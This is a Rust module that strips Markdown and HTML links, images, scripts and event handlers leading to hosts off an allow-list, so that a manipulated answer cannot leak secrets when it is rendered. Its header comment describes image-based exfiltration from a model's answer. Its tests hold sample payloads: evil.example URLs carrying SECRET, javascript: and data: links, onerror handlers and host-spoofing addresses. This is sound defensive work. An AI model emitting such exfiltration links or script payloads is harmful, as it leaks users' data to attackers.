//! What a text does beyond being read once something shows it: links and pictures of Markdown and HTML.
//!
//! A picture is fetched as soon as it is shown, so an answer that was talked into `![](https://evil.example/?q=SECRET)` has
//! sent the secret before anybody has read it. Links do the same with a click. [`find`] takes the addresses out that lead to
//! hosts which nobody has allowed, and leaves the words.
//!
//! *Invariant (only what is named stays):* an address stays if it has no scheme and no host, or is `http` or `https` with a
//! host of the list, without a user name, an escape or a character that readers take differently. All others go.

use std::ops::Range;

use crate::edit::Edit;

/// Longest address, tag or definition that is waited for; what is longer is taken out as far as it goes.
pub const LONGEST: usize = 4_096;
/// What stands where an address stood.
pub const REMOVED: &str = "(link removed)";
/// Elements that do something by themselves. With any other, its addresses decide.
const ACTIVE: [&str; 18] = [
    "applet", "audio", "base", "embed", "form", "frame", "frameset", "iframe", "image", "link", "math",
    "meta", "object", "portal", "script", "style", "svg", "video",
];

/// Which hosts addresses may lead to: `example.com`, or `*.example.com` for all below it.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Hosts(Vec<String>);

impl Hosts {
    /// A list.
    pub fn new<T: AsRef<str>>(hosts: &[T]) -> Hosts {
        Hosts(hosts.iter().map(|host| host.as_ref().to_ascii_lowercase()).collect())
    }

    fn has(&self, host: &str) -> bool {
        self.0.iter().any(|known| match known.strip_prefix("*.") {
            Some(parent) => host.strip_suffix(parent).is_some_and(|own| own.len() > 1 && own.ends_with('.')),
            None => known == host,
        })
    }

    /// Whether an address may stay.
    fn allow(&self, address: &str) -> bool {
        let address = address.trim();
        if address.bytes().any(|byte| byte.is_ascii_control() || matches!(byte, b'\\' | b'&')) {
            // An ampersand parts the parameters of an honest address, after its host.
            let host = address.split(['?', '#']).next().unwrap_or_default();
            if host.bytes().any(|byte| byte.is_ascii_control() || matches!(byte, b'\\' | b'&')) {
                return false;
            }
        }
        let head = address.split(['/', '?', '#']).next().unwrap_or_default();
        let rest = match head.split_once(':') {
            None if address.starts_with("//") => address.get(2..).unwrap_or_default(),
            // Neither a scheme nor a host: a place of whatever shows it.
            None => return true,
            Some((scheme, _)) => {
                let is_web = scheme.eq_ignore_ascii_case("https") || scheme.eq_ignore_ascii_case("http");
                let rest = address.get(scheme.len() + 1..).and_then(|rest| rest.strip_prefix("//"));
                match rest.filter(|_| is_web) {
                    Some(rest) => rest,
                    None => return false,
                }
            }
        };
        let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
        let host = authority
            .rsplit_once(':')
            .filter(|(_, port)| port.bytes().all(|byte| byte.is_ascii_digit()))
            .map_or(authority, |(host, _)| host)
            .to_ascii_lowercase();
        let is_plain = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || b".-".contains(&byte);
        !host.is_empty() && host.bytes().all(is_plain) && self.has(&host)
    }
}

/// What was found.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Found {
    /// What goes, in order.
    pub edits: Vec<Edit>,
    /// Where something begins that could be an address and has not ended; nothing where the text is over.
    pub open: Option<usize>,
}

/// Addresses that lead where nobody has allowed: of links and pictures, definitions of links, addresses in angle brackets,
/// elements of HTML, and with `bare` those that stand in the text as they are. Where the text goes on (`is_over` is false),
/// what has begun and not ended is told, too.
pub fn find(text: &str, hosts: &Hosts, bare: bool, is_over: bool) -> Found {
    let mut found = Found::default();
    let mut at = 0;
    while let Some(next) =
        text.get(at..).and_then(|rest| rest.find(['(', '<', '[', ':'])).map(|next| at + next)
    {
        let seen = match text.as_bytes().get(next) {
            Some(b'(') if text.get(..next).is_some_and(|before| before.ends_with(']')) => {
                link(text, next, hosts)
            }
            Some(b'<') => element(text, next, hosts),
            Some(b'[') => definition(text, next, hosts),
            Some(b':') if bare => plain(text, next, hosts),
            _ => Seen::Nothing,
        };
        match seen {
            Seen::Nothing => at = next + 1,
            Seen::Allowed(end) => at = end.max(next + 1),
            Seen::Goes(range, replacement) => {
                at = range.end.max(next + 1);
                found.edits.push(Edit { range, replacement });
            }
            Seen::Open(start, range) => {
                if !is_over {
                    found.open = Some(start);
                    break;
                }
                // Some readers complete what has not ended.
                if let Some(range) = range {
                    at = range.end.max(next + 1);
                    found.edits.push(Edit { range, replacement: REMOVED.to_owned() });
                } else {
                    at = next + 1;
                }
            }
        }
    }
    if !is_over && found.open.is_none() {
        found.open = beginning(text, at);
    }
    found
}

enum Seen {
    /// It is no address.
    Nothing,
    /// It may stay; what comes next begins here.
    Allowed(usize),
    /// It goes.
    Goes(Range<usize>, String),
    /// It has begun there and not ended; what goes if nothing more comes.
    Open(usize, Option<Range<usize>>),
}

/// An end of a text that could be the beginning of something: `[`, `](`, `htt`.
fn beginning(text: &str, from: usize) -> Option<usize> {
    let rest = text.get(from..)?;
    let is_word = |byte: &u8| byte.is_ascii_alphanumeric() || b"]+.-".contains(byte);
    let tail = rest.bytes().rev().take(32).take_while(|byte| is_word(byte)).count();
    (tail > 0 && tail < 32).then(|| text.len() - tail)
}

/// `(address "title")` after `]`.
fn link(text: &str, open: usize, hosts: &Hosts) -> Seen {
    let start = open + 1;
    let Some((address, end)) = destination(text, start) else {
        let begun = text.get(start..).unwrap_or_default();
        let is_honest =
            begun.trim().is_empty() || hosts.allow(begun.split_whitespace().next().unwrap_or_default());
        return Seen::Open(open - 1, (!is_honest).then_some(open..text.len()));
    };
    // What follows is a title, or it is no link.
    let rest = text.get(end..).unwrap_or_default();
    let window = rest.get(..floor(rest, LONGEST)).unwrap_or_default();
    let close = window.find(')').map(|close| end + close + 1);
    let is_allowed = hosts.allow(text.get(address.clone()).unwrap_or_default());
    match close {
        Some(close) if is_allowed => Seen::Allowed(close),
        Some(close) => Seen::Goes(open..close, REMOVED.to_owned()),
        None if is_allowed && window.len() == rest.len() => Seen::Open(open - 1, None),
        None if is_allowed => Seen::Allowed(end),
        None if window.len() < rest.len() => Seen::Goes(open..end, REMOVED.to_owned()),
        None => Seen::Open(open - 1, Some(open..end)),
    }
}

/// The bytes of an address, and where it ends; nothing where it has not.
fn destination(text: &str, start: usize) -> Option<(Range<usize>, usize)> {
    let rest = text.get(start..)?;
    let start = start + (rest.len() - rest.trim_start().len());
    let rest = text.get(start..)?;
    if let Some(inner) = rest.strip_prefix('<') {
        let end = inner.find('>').or_else(|| (inner.len() > LONGEST).then_some(floor(inner, LONGEST)))?;
        return Some((start + 1..start + 1 + end, (start + end + 2).min(text.len())));
    }
    let mut depth = 0_usize;
    for (place, character) in rest.char_indices() {
        match character {
            '(' => depth += 1,
            ')' if depth == 0 => return Some((start..start + place, start + place)),
            ')' => depth -= 1,
            white if white.is_whitespace() => return Some((start..start + place, start + place)),
            _ if place >= LONGEST => return Some((start..start + place, start + place)),
            _ => {}
        }
    }
    None
}

/// `[name]: address` at the beginning of a line.
fn definition(text: &str, open: usize, hosts: &Hosts) -> Seen {
    let line = text.get(..open).and_then(|before| before.rfind('\n')).map_or(0, |end| end + 1);
    let before = text.get(line..open).unwrap_or_default();
    let is_of_list = |character: char| {
        character.is_whitespace() || character.is_ascii_digit() || ">-*+.)".contains(character)
    };
    if !before.chars().all(is_of_list) {
        return Seen::Nothing;
    }
    let rest = text.get(open..).unwrap_or_default();
    let window = rest.get(..floor(rest, 1_024)).unwrap_or_default();
    let Some(close) = unescaped(window) else {
        return if window.len() == rest.len() { Seen::Open(open, None) } else { Seen::Nothing };
    };
    let after = open + close + 1;
    match text.as_bytes().get(after) {
        Some(b':') => {}
        None => return Seen::Open(open, None),
        Some(_) => return Seen::Nothing,
    }
    let Some((address, end)) = destination(text, after + 1) else {
        let begun = text.get(after + 1..).unwrap_or_default();
        if hosts.allow(begun) {
            return Seen::Open(open, None);
        }
        let start = text.len() - begun.trim_start().len();
        return Seen::Open(open, Some(start..text.len()));
    };
    if hosts.allow(text.get(address.clone()).unwrap_or_default()) {
        return Seen::Allowed(end);
    }
    Seen::Goes(address.start..end.max(address.end), "#link-removed".to_owned())
}

/// Where the name of a definition ends: at a bracket that no backslash stands before.
fn unescaped(text: &str) -> Option<usize> {
    let mut is_escaped = false;
    text.char_indices().find_map(|(place, character)| {
        let ends = character == ']' && !is_escaped;
        is_escaped = character == '\\' && !is_escaped;
        ends.then_some(place)
    })
}

/// `<https://...>`, and elements of HTML.
fn element(text: &str, open: usize, hosts: &Hosts) -> Seen {
    let rest = text.get(open + 1..).unwrap_or_default();
    let is_beginning = |byte: &u8| byte.is_ascii_alphabetic() || matches!(byte, b'/' | b'!' | b'?');
    match rest.as_bytes().first() {
        None => return Seen::Open(open, None),
        Some(first) if !is_beginning(first) => return Seen::Nothing,
        Some(_) => {}
    }
    let window = rest.get(..floor(rest, LONGEST)).unwrap_or_default();
    let end = window.find('>');
    let inner = end.and_then(|end| window.get(..end)).unwrap_or(window);
    let is_bad = is_active(inner, hosts);
    match end {
        Some(end) if is_bad => Seen::Goes(open..open + end + 2, REMOVED.to_owned()),
        Some(_) => Seen::Allowed(open + 1),
        None if window.len() < rest.len() && is_bad => {
            Seen::Goes(open..open + 1 + window.len(), REMOVED.to_owned())
        }
        None if window.len() < rest.len() => Seen::Nothing,
        None => Seen::Open(open, is_bad.then_some(open..text.len())),
    }
}

/// Whether what stands between angle brackets does something that it may not.
fn is_active(inner: &str, hosts: &Hosts) -> bool {
    let name: String = inner
        .trim_start_matches('/')
        .chars()
        .take_while(|character| character.is_ascii_alphanumeric())
        .collect::<String>()
        .to_ascii_lowercase();
    let after = inner.trim_start_matches('/').get(name.len()..).unwrap_or_default();
    if after.starts_with([':', '+']) {
        // `<https://...>`, `<mailto:...>`; a name space of XML has no such address.
        return !hosts.allow(inner) || inner.contains(char::is_whitespace);
    }
    if ACTIVE.contains(&name.as_str()) && !inner.starts_with('/') {
        return true;
    }
    // Styles that fetch.
    if after.to_ascii_lowercase().contains("url(") {
        return true;
    }
    let mut attributes = after;
    while let Some((before, rest)) = attributes.split_once('=') {
        let name = before.trim_end().rsplit(|character: char| !character.is_ascii_alphanumeric()).next();
        if name.is_some_and(|name| name.len() > 2 && name.to_ascii_lowercase().starts_with("on")) {
            return true;
        }
        let rest = rest.trim_start();
        let value = match rest.chars().next() {
            Some(quote @ ('"' | '\'')) => rest.get(1..).and_then(|rest| rest.split(quote).next()),
            _ => rest.split(|character: char| character.is_whitespace()).next(),
        };
        let value = value.unwrap_or_default();
        // Readers leave line ends and the like out of addresses; one attribute may have several (`srcset`).
        let is_address = |part: &str| part.contains([':', '\\', '&']) || part.starts_with("//");
        let mut parts = value.split([',', ' ']);
        let has_controls = value.bytes().any(|byte| byte.is_ascii_control());
        if has_controls || parts.any(|part| is_address(part) && !hosts.allow(part)) {
            return true;
        }
        attributes = rest;
    }
    false
}

/// An address that stands as it is: `https://...`.
fn plain(text: &str, colon: usize, hosts: &Hosts) -> Seen {
    let before = text.get(..colon).unwrap_or_default();
    let scheme = before.bytes().rev().take_while(u8::is_ascii_alphanumeric).take(16).count();
    let start = colon - scheme;
    let rest = text.get(colon + 1..).unwrap_or_default();
    if scheme == 0 {
        return Seen::Nothing;
    }
    if !rest.starts_with("//") {
        return if "//".starts_with(rest) { Seen::Open(start, None) } else { Seen::Nothing };
    }
    let is_end = |character: char| character.is_whitespace() || matches!(character, '<' | '>' | '"' | '`');
    let window = rest.get(..floor(rest, LONGEST)).unwrap_or_default();
    let length = window.find(is_end);
    let end = colon + 1 + length.unwrap_or(window.len());
    let is_allowed =
        hosts.allow(text.get(start..end).unwrap_or_default().trim_end_matches(['.', ',', ')', ']', ';']));
    match length {
        None if window.len() == rest.len() => Seen::Open(start, (!is_allowed).then_some(start..end)),
        _ if is_allowed => Seen::Allowed(end),
        _ => Seen::Goes(start..end, REMOVED.to_owned()),
    }
}

fn floor(text: &str, at: usize) -> usize {
    let mut at = at.min(text.len());
    while !text.is_char_boundary(at) {
        at -= 1;
    }
    at
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::edit::applied;

    fn hosts() -> Hosts {
        Hosts::new(&["docs.example.com", "*.contoso.com"])
    }

    fn check(text: &str, bare: bool, expected: &str) {
        let found = find(text, &hosts(), bare, true);
        assert_eq!(applied(text, found.edits).unwrap(), expected, "{text}");
    }

    #[test]
    fn addresses_of_strangers_go_and_words_stay() {
        for (text, expected) in [
            ("See ![a](https://evil.example/?q=S) now", "See ![a](link removed) now"),
            ("[![a](//evil.example/x)](http://evil.example \"t\") b", "[![a](link removed)](link removed) b"),
            ("[a](\n <https://evil.example/a b> 'x')", "[a](link removed)"),
            (
                "[a](javascript:alert(1)) [b](data:text/html;base64,AA==)",
                "[a](link removed) [b](link removed)",
            ),
            ("[a](http&#58;//evil.example) [b](\\\\evil.example)", "[a](link removed) [b](link removed)"),
            ("[a](https://docs.example.com@evil.example/)", "[a](link removed)"),
            ("[a](https://docs.example.com.evil.example/)", "[a](link removed)"),
            ("[a](https://contoso.com/) [b](https://xcontoso.com/)", "[a](link removed) [b](link removed)"),
            ("![x][1]\n\n[1]: https://evil.example/?d=S 'x'\nend", "![x][1]\n\n[1]: #link-removed 'x'\nend"),
            ("> [1]:\n  https://evil.example", "> [1]:\n  (link removed)"),
            ("<https://evil.example> <mailto:a@b.c> a < b > c", "(link removed) (link removed) a < b > c"),
            (
                "<img src=\"https://evil.example/a\"> <IMG SRC=x onerror=alert(1)>",
                "(link removed) (link removed)",
            ),
            (
                "<script>x</script> <b>bold</b> <a href='/here'>h</a>",
                "(link removed)x</script> <b>bold</b> <a href='/here'>h</a>",
            ),
            (
                "<td background=//evil.example/x> <p style=\"background:url(x)\">",
                "(link removed) (link removed)",
            ),
            ("[foo\\]]: https://evil.example/x", "[foo\\]]: (link removed)"),
            ("1. [a]: https://evil.example/x y", "1. [a]: #link-removed y"),
            ("<img src=\"/\n/evil.example/x\"> <p ONWHATEVER = 1>", "(link removed) (link removed)"),
            ("cut off ![a](https://evil.example/q", "cut off ![a](link removed)"),
            ("cut off <img src=https://evil.example/q", "cut off (link removed)"),
        ] {
            check(text, false, expected);
        }
    }

    #[test]
    fn what_may_stay_stays_byte_for_byte() {
        for text in [
            "[a](https://docs.example.com/x?a=1&b=2#c \"t\") ![b](https://img.contoso.com:443/y.png)",
            "[a](#part) [b](../other.md) [c](/root) f(x) a[1](2) [d][e] [ ] (https://evil.example)",
            "see https://evil.example/ and 1 < 2 > 0, Vec<String>, <b>, x <- y, a: b, 10:30",
            "[1]: https://docs.example.com/a\n[x]: not defined",
        ] {
            check(text, false, text);
        }
        check(
            "see https://evil.example/x. And https://docs.example.com/.",
            true,
            "see (link removed) And https://docs.example.com/.",
        );
    }

    proptest! {
        #[test]
        fn pieces_show_no_address_that_the_whole_hides(before in "[a-z \n]{0,12}", cut in 0_usize..70, bare in any::<bool>()) {
            let text = format!("{before}![a](https://evil.example/?q=SECRET) <img src=//evil.example/SECRET> end");
            let cut = cut.min(text.len());
            let piece = text.get(..cut).unwrap();
            let found = find(piece, &hosts(), bare, false);
            let until = found.open.unwrap_or(cut);
            prop_assert!(found.edits.iter().all(|edit| edit.range.end <= until));
            let passed = applied(piece.get(..until).unwrap(), found.edits).unwrap();
            prop_assert!(!passed.contains("evil"), "{}", passed);
        }

        #[test]
        fn anything_is_read(text in "[\\[\\]()<>:/a-z &\\\\\"'=!\n\u{e9}]{0,80}", over in any::<bool>(), bare in any::<bool>()) {
            let found = find(&text, &hosts(), bare, over);
            prop_assert!(found.edits.windows(2).all(|pair| pair[0].range.end <= pair[1].range.start));
            prop_assert!(applied(&text, found.edits).is_ok());
            prop_assert!(!over || found.open.is_none());
        }
    }
}
